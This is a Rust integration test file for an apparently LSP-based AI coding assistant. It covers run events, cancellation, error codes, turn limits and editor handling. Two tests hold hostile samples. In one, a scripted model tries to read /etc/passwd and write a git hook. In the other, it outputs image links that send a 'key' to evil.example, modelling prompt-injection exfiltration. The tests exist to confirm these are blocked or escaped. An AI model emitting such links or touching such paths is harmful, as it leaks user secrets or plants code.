//! The commands, from the argument to the last event.

use serde_json::{Value, json};

use crate::client::{Client, Personality, Setup};
use crate::script::{calls, edit, endless, says};

async fn client(rules: &[(&str, Vec<Value>)]) -> (Client, tempfile::TempDir) {
    let folder = tempfile::tempdir().expect("a folder");
    let client = Client::start(Setup::scripted(Personality::VsCode, folder.path(), rules)).await;
    (client, folder)
}

fn types(events: &[Value]) -> Vec<&str> {
    events.iter().filter_map(|event| event["type"].as_str()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ask_streams_its_answer_in_order() {
    let (client, _folder) = client(&[("why", vec![says("Because.")])]).await;
    let answer = client.execute("cowrite.ask", json!({ "prompt": "why?" })).await.expect("started");
    let run = answer["runId"].as_str().expect("a run").to_owned();
    assert!(answer["sessionId"].is_string());
    let finished = client.finished(&run).await;
    assert_eq!(finished, json!({ "type": "runFinished", "status": "completed", "resultText": "Because." }));
    let events = client.events(&run);
    assert_eq!(types(&events), ["runStarted", "turnStarted", "textDelta", "usage", "runFinished"]);
    assert_eq!(events[0], json!({ "type": "runStarted", "prompt": "why?", "command": "ask" }));
    let told = client.notifications("cowrite/event");
    let sequences: Vec<_> =
        told.iter().map(|message| message["params"]["sequence"].as_u64().expect("a number")).collect();
    assert_eq!(sequences, [1, 2, 3, 4, 5]);
    let page = client.execute("cowrite.events", json!({ "runId": run, "after": 2 })).await.expect("events");
    assert_eq!(page["next"], 5);
    assert_eq!(page["retentionGap"], false);
    let listed: Vec<_> =
        page["events"].as_array().expect("a list").iter().map(|event| event["sequence"].clone()).collect();
    assert_eq!(listed, [json!(3), json!(4), json!(5)]);
    let status = client.execute("cowrite.status", json!({})).await.expect("a status");
    assert_eq!(status["sessionId"], answer["sessionId"]);
    assert_eq!(status["model"], "scripted/test");
    assert_eq!(status["runs"][0]["id"], json!(run));
    assert_eq!(status["runs"][0]["eventCount"], 5);
    assert_eq!(status["runs"][0]["resultText"], "Because.");
    for key in ["trusted", "context", "approvals", "usage", "rules"] {
        assert!(status.get(key).is_some(), "{key} is missing in {status}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tools_read_the_buffer_and_not_the_disk() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("a.rs"), "on disk\n").expect("written");
    std::fs::write(folder.path().join("b.rs"), "needle on disk\n").expect("written");
    let turns = vec![
        calls(&[("read", json!({ "path": "a.rs" })), ("search", json!({ "pattern": "needle" }))]),
        json!({ "expect": { "contains": ["unsaved needle", "b.rs"] }, "deltas": [{ "text": "seen" }] }),
    ];
    let client = Client::start(Setup::scripted(Personality::VsCode, folder.path(), &[("look", turns)])).await;
    client.open(&folder.path().canonicalize().expect("real").join("a.rs"), "unsaved needle\n");
    let run = client.run("cowrite.ask", json!({ "prompt": "look" })).await;
    assert_eq!(client.finished(&run).await["resultText"], "seen");
    let events = client.events(&run);
    let started = types(&events).iter().position(|kind| *kind == "toolStarted").expect("tools");
    assert_eq!(types(&events)[started..started + 2], ["toolStarted", "toolStarted"], "reads go side by side");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paths_outside_and_protected_ones_that_the_person_refuses_are_answers_for_the_model() {
    let folder = tempfile::tempdir().expect("a folder");
    let turns = vec![
        calls(&[
            ("read", json!({ "path": "/etc/passwd" })),
            ("read", json!({ "path": "../x" })),
            ("write", json!({ "path": ".git/hooks/post-commit", "content": "x" })),
        ]),
        says("told"),
    ];
    let client = Client::start(Setup::scripted(Personality::VsCode, folder.path(), &[("try", turns)])).await;
    client.set_habit(|client, method, id, _| {
        let asked = method == "window/showMessageRequest";
        if asked {
            client.reply(id.clone(), json!({ "title": "Deny" }));
        }
        asked
    });
    let run = client.run("cowrite.run", json!({ "prompt": "try" })).await;
    assert_eq!(client.finished(&run).await["status"], "completed");
    let finished: Vec<Value> =
        client.events(&run).into_iter().filter(|event| event["type"] == "toolFinished").collect();
    assert_eq!(finished.len(), 3);
    assert!(finished.iter().all(|event| event["ok"] == false), "{finished:#?}");
    assert!(!folder.path().join(".git").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_model_a_run_ends_at_once_with_a_sentence_that_says_how_to_get_one() {
    let folder = tempfile::tempdir().expect("a folder");
    let settings = json!({ "model": "anthropic/claude-sonnet-5-5", "providers": {
        "anthropic": { "kind": "anthropic", "api_key_env": "COWRITE_TEST_NO_SUCH_KEY" } } });
    let client = Client::start(Setup {
        personality: Personality::VsCode,
        folder: folder.path(),
        more_folders: Vec::new(),
        settings,
        state: None,
        process: false,
        write_limit: None,
        surroundings: None,
        refused: None,
        experimental: json!({ "events": true }),
    })
    .await;
    let run = client.run("cowrite.ask", json!({ "prompt": "hello" })).await;
    let finished = client.finished(&run).await;
    assert_eq!(finished["status"], "failed");
    assert!(finished["error"].as_str().expect("a sentence").contains("COWRITE_TEST_NO_SUCH_KEY"), "{finished}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_mode_plan_changes_nothing() {
    let folder = tempfile::tempdir().expect("a folder");
    let real = folder.path().canonicalize().expect("real");
    std::fs::write(real.join("a.rs"), "old\n").expect("written");
    let turns =
        vec![calls(&[("read", json!({ "path": "a.rs" }))]), calls(&[edit("a.rs", &[("old", "new")])]), says("end")];
    let client = Client::start(Setup::scripted(Personality::VsCode, &real, &[("go", turns)])).await;
    let run = client.run("cowrite.run", json!({ "prompt": "go", "mode": "plan" })).await;
    assert_eq!(client.finished(&run).await["status"], "completed");
    assert_eq!(std::fs::read_to_string(real.join("a.rs")).expect("there"), "old\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_run_is_live_eight_wait_and_the_next_is_told_that_the_session_is_busy() {
    let (client, _folder) = client(&[("go on", vec![endless()])]).await;
    let mut runs = Vec::new();
    for _ in 0..9 {
        runs.push(client.run("cowrite.ask", json!({ "prompt": "go on" })).await);
    }
    let error = client.execute("cowrite.ask", json!({ "prompt": "go on" })).await.expect_err("busy");
    assert_eq!(error["code"], -32803);
    assert!(error["message"].as_str().expect("a sentence").contains("busy"), "{error}");
    let answer = client.execute("cowrite.cancel", json!({})).await.expect("an answer");
    runs.sort();
    assert_eq!(answer["cancelled"], json!(runs));
    for run in &runs {
        assert_eq!(client.finished(run).await["status"], "cancelled");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_cannot_be_is_minus_32803_and_what_is_malformed_minus_32602() {
    let (client, _folder) = client(&[]).await;
    let cases = [
        ("cowrite.cancel", json!({ "runId": "019a0000-0000-7000-8000-000000000000" }), -32803),
        ("cowrite.events", json!({ "runId": "no such run" }), -32803),
        ("cowrite.status", json!({ "sessionId": "019a0000-0000-7000-8000-000000000000" }), -32803),
        ("cowrite.ask", json!({ "prompt": "p", "sessionId": "nobody" }), -32803),
        ("cowrite.ask", json!({ "prompt": "" }), -32602),
        ("cowrite.cancel", json!({ "runId": 5 }), -32602),
        ("cowrite.unheard-of", json!({}), -32602),
        ("cowrite.explain", json!({}), -32602),
    ];
    for (command, argument, code) in cases {
        let error = client.execute(command, argument.clone()).await.expect_err("an error");
        assert_eq!(error["code"], code, "{command} {argument}: {error}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn r10_a_run_that_reaches_max_turns_says_so_and_the_next_prompt_continues_it() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("a.rs"), "x\n").expect("written");
    let looks: Vec<Value> = (0..5).map(|_| calls(&[("read", json!({ "path": "a.rs" }))])).collect();
    let mut setup =
        Setup::scripted(Personality::VsCode, folder.path(), &[("look", looks), ("go on", vec![says("done")])]);
    setup.settings["limits"] = json!({ "max_turns": 3 });
    let client = Client::start(setup).await;
    let run = client.run("cowrite.ask", json!({ "prompt": "look" })).await;
    assert_eq!(client.finished(&run).await["status"], "limitReached");
    let turns = types(&client.events(&run)).iter().filter(|kind| **kind == "turnStarted").count();
    assert_eq!(turns, 3);
    let run = client.run("cowrite.run", json!({ "prompt": "go on" })).await;
    assert_eq!(client.finished(&run).await["status"], "completed");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_follows_a_pause_belongs_to_the_same_answer() {
    let folder = tempfile::tempdir().expect("a folder");
    let half = json!({ "deltas": [{ "text": "First half, " }], "stop": "pause" });
    let turns = vec![half, says("second half.")];
    let client = Client::start(Setup::scripted(Personality::VsCode, folder.path(), &[("go", turns)])).await;
    let run = client.run("cowrite.run", json!({ "prompt": "go" })).await;
    assert_eq!(client.finished(&run).await["resultText"], "First half, second half.");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn p5_no_call_of_an_answer_that_was_cut_off_is_run_and_the_model_hears_of_it() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("a.rs"), "x\n").expect("written");
    let cut = json!({
        "deltas": [
            { "call": { "name": "read", "arguments": { "path": "a.rs" } } },
            { "call": { "name": "write", "arguments": "{\"path\": \"b.rs\", \"cont", "cut": true } },
        ],
        "stop": "max_tokens",
    });
    let next = json!({ "expect": { "contains": ["none of its tool calls was run (read, write)"] }, "deltas": [{ "text": "shorter" }] });
    let client = Client::start(Setup::scripted(Personality::VsCode, folder.path(), &[("go", vec![cut, next])])).await;
    let run = client.run("cowrite.run", json!({ "prompt": "go" })).await;
    let finished = client.finished(&run).await;
    assert_eq!(finished["resultText"], "shorter", "{finished}");
    assert!(!types(&client.events(&run)).contains(&"toolStarted"), "nothing of it is run");
    assert!(!folder.path().join("b.rs").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn for_a_client_without_events_the_answer_opens_as_a_document() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut setup = Setup::scripted(Personality::Helix, folder.path(), &[("why", vec![says("Because **so**.")])]);
    setup.experimental = json!({});
    let client = Client::start(setup).await;
    client.run("cowrite.ask", json!({ "prompt": "why?" })).await;
    let uri = client
        .until("a document", |_, requests| {
            let request = requests.iter().find(|request| request["method"] == "window/showDocument")?;
            Some(request["params"]["uri"].as_str()?.to_owned())
        })
        .await;
    let path = uri.strip_prefix("file://").expect("a file");
    let text = std::fs::read_to_string(path).expect("the document is there");
    assert!(text.contains("Because **so**."), "{text}");
    assert!(
        path.starts_with(&client.state_folder().canonicalize().expect("real").display().to_string())
            || path.contains("answers"),
        "{path}"
    );
    assert_eq!(client.notifications("cowrite/event"), Vec::<Value>::new());
}

/// What a page has talked a model into saying reaches nobody by way of an image in the answer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a3_21_the_document_of_an_answer_has_no_images_and_no_html() {
    let folder = tempfile::tempdir().expect("a folder");
    let answer = "So: ![x](https://evil.example/?key) <img src='https://evil.example/?key'> and ![y][r]\n\n[r]: https://evil.example/";
    let mut setup = Setup::scripted(Personality::Helix, folder.path(), &[("why", vec![says(answer)])]);
    setup.experimental = json!({});
    let client = Client::start(setup).await;
    client.run("cowrite.ask", json!({ "prompt": "why?" })).await;
    let uri = client
        .until("a document", |_, requests| {
            let request = requests.iter().find(|request| request["method"] == "window/showDocument")?;
            Some(request["params"]["uri"].as_str()?.to_owned())
        })
        .await;
    let text = std::fs::read_to_string(uri.strip_prefix("file://").expect("a file")).expect("the document is there");
    assert!(text.contains("So: \\![x](https://evil.example/?key) &lt;img src="), "{text}");
    assert!(text.contains("\\![y][r]") && !text.contains("<img"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_takes_the_keyboard_only_from_a_person_who_has_not_typed() {
    for (personality, types) in [
        (Personality::VsCode, false),
        (Personality::VsCode, true),
        (Personality::Eglot, true),
        (Personality::Helix, true),
    ] {
        let folder = tempfile::tempdir().expect("a folder");
        let answer = json!({ "deltas": [{ "delay_ms": 300 }, { "text": "Because so." }] });
        let mut setup = Setup::scripted(personality, folder.path(), &[("why", vec![answer])]);
        setup.experimental = json!({});
        let client = Client::start(setup).await;
        let uri = client.open(&folder.path().join("a.rs"), "one\n");
        client.run("cowrite.ask", json!({ "prompt": "why?" })).await;
        if types {
            client
                .until("the run", |_, requests| {
                    requests.iter().any(|request| request["method"] == "window/workDoneProgress/create").then_some(())
                })
                .await;
            client.type_into(&uri, |_| (0..0, "typed ".into()));
        }
        let (method, params) = client
            .until("the answer", |notifications, requests| {
                let document = requests.iter().find(|request| request["method"] == "window/showDocument");
                let message = notifications.iter().find(|message| message["method"] == "window/showMessage");
                let shown = document.or(message)?;
                Some((shown["method"].clone(), shown["params"].clone()))
            })
            .await;
        if personality == Personality::Helix {
            // It would go to the document, in a split or not.
            assert_eq!(method, "window/showMessage");
            let text = params["message"].as_str().expect("a text");
            let path = text.split("(all of it is in ").nth(1).and_then(|rest| rest.strip_suffix(')')).expect(text);
            assert!(std::fs::read_to_string(path).expect("the document is there").contains("Because so."));
        } else {
            assert_eq!(method, "window/showDocument", "{personality:?}");
            assert_eq!(params["takeFocus"], !types, "{personality:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn helix_hides_command_errors_so_a_message_tells_them() {
    let folder = tempfile::tempdir().expect("a folder");
    let client = Client::start(Setup::scripted(Personality::Helix, folder.path(), &[])).await;
    client.execute("cowrite.explain", json!({})).await.expect_err("it needs a uri");
    let message = client
        .until("a message", |notifications, _| {
            notifications.iter().find(|message| message["method"] == "window/showMessage").cloned()
        })
        .await;
    assert_eq!(message["params"]["type"], 1, "{message}");
    assert!(message["params"]["message"].as_str().expect("a text").contains("uri"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_ask_puts_nothing_in_front_of_the_person() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut setup = Setup::scripted(Personality::Helix, folder.path(), &[("go on", vec![endless()])]);
    setup.experimental = json!({});
    let client = Client::start(setup).await;
    let run = client.run("cowrite.ask", json!({ "prompt": "go on" })).await;
    client
        .until("its first words", |notifications, _| {
            notifications.iter().any(|message| message.to_string().contains("word")).then_some(())
        })
        .await;
    client.execute("cowrite.cancel", json!({ "runId": run })).await.expect("an answer");
    client
        .until("the end of the progress", |notifications, _| {
            notifications.iter().any(|message| message["params"]["value"]["kind"] == "end").then_some(())
        })
        .await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(client.requests("window/showDocument"), Vec::<Value>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn code_actions_are_complete_and_only_where_they_make_sense() {
    let folder = tempfile::tempdir().expect("a folder");
    let client = Client::start(Setup::scripted(Personality::Helix, folder.path(), &[])).await;
    let uri = client.open(&folder.path().join("a.rs"), "fn a() {}\n");
    let actions = async |start: u64, end: u64, diagnostics: Value| {
        let range = json!({ "start": { "line": 0, "character": start }, "end": { "line": 0, "character": end } });
        let params =
            json!({ "textDocument": { "uri": uri }, "range": range, "context": { "diagnostics": diagnostics } });
        let list = client.request("textDocument/codeAction", params).await.expect("actions");
        list.as_array().expect("a list").clone()
    };
    let none = actions(0, 0, json!([])).await;
    assert!(none.iter().all(|action| action["kind"] == "source"), "{none:#?}");
    let selected = actions(0, 4, json!([])).await;
    assert!(!selected.is_empty());
    for action in &selected {
        assert_eq!(action["command"]["command"], "cowrite.run", "{action}");
        assert!(action["command"]["arguments"][0]["command"].is_string(), "{action}");
        assert_ne!(action["kind"], "quickfix", "nothing is broken here: {action}");
    }
    let error = json!([{ "range": { "start": { "line": 0, "character": 0 }, "end": { "line": 0, "character": 2 } }, "message": "is broken", "severity": 1 }]);
    let fixes = actions(0, 0, error).await;
    let fix = fixes.iter().find(|action| action["kind"] == "quickfix").expect("a quick fix");
    assert_eq!(fix["command"]["arguments"][0]["command"], "fix");
    assert!(fix.to_string().contains("is broken"), "{fix}");
}
